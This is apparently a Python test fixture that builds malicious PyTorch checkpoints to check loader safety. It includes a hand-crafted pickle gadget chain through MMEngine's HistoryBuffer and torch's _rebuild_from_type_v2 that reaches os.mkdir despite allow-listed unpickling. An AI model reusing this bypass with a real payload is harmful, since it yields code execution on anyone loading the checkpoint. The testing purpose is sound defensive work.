"""Checkpoints that do harm when they are loaded: they make a folder."""

import io
import os
import zipfile

import torch


class Attack:
    """Makes a folder when it is unpickled."""

    def __init__(self, folder):
        self.folder = str(folder)

    def __reduce__(self):
        return os.mkdir, (self.folder,)


def hostile(path, folder, **content):
    """A checkpoint as ``content`` says, which makes ``folder`` when it is loaded as a pickle."""
    torch.save({**content, 'extra': Attack(folder)}, path)
    return path


def by_getattr(path, folder):
    """Reaches ``os.mkdir`` from a class of MMEngine by attributes alone, and calls it.

    HistoryBuffer.mean.__globals__['__builtins__']['__import__']('os').mkdir(folder), where items
    are taken, and functions called, by a function of torch that is allowed everywhere.
    """
    out = io.BytesIO()

    def put(*parts):
        for part in parts:
            out.write(part if isinstance(part, bytes) else text(part))

    def text(value):
        data = value.encode()
        return b'X' + len(data).to_bytes(4, 'little') + data

    def attribute(of, name):
        return [b'c__builtin__\ngetattr\n', *of, text(name), b'\x86', b'R']

    def call(function, argument, kind):
        # _rebuild_from_type_v2(function, type of the result, arguments, state)
        return [b'ctorch._tensor\n_rebuild_from_type_v2\n', b'(', *function, *kind, *argument,
                b'\x85', b'}', b't', b'R']

    history = [b'cmmengine.logging.history_buffer\nHistoryBuffer\n']
    module_globals = attribute(attribute(history, 'mean'), '__globals__')
    dict_type = attribute(module_globals, '__class__')
    builtins = call(attribute(module_globals, '__getitem__'), [text('__builtins__')], dict_type)
    import_ = attribute(builtins, '__getitem__')
    function_type = attribute(attribute(builtins, '__getitem__'), '__class__')
    importer = call(import_, [text('__import__')], function_type)
    module_type = attribute(attribute(
        [b'cnumpy._core.multiarray\n_reconstruct\n'], '__self__'), '__class__')
    system = call(importer, [text('os')], module_type)
    none = attribute(attribute(history, '__doc__'), '__class__')
    put(b'\x80\x02', *call(attribute(system, 'mkdir'), [text(str(folder))], none), b'.')
    # torch's container: one pickle among the (absent) tensors.
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('archive/data.pkl', out.getvalue())
        archive.writestr('archive/version', '3\n')
        archive.writestr('archive/byteorder', 'little')
    return path
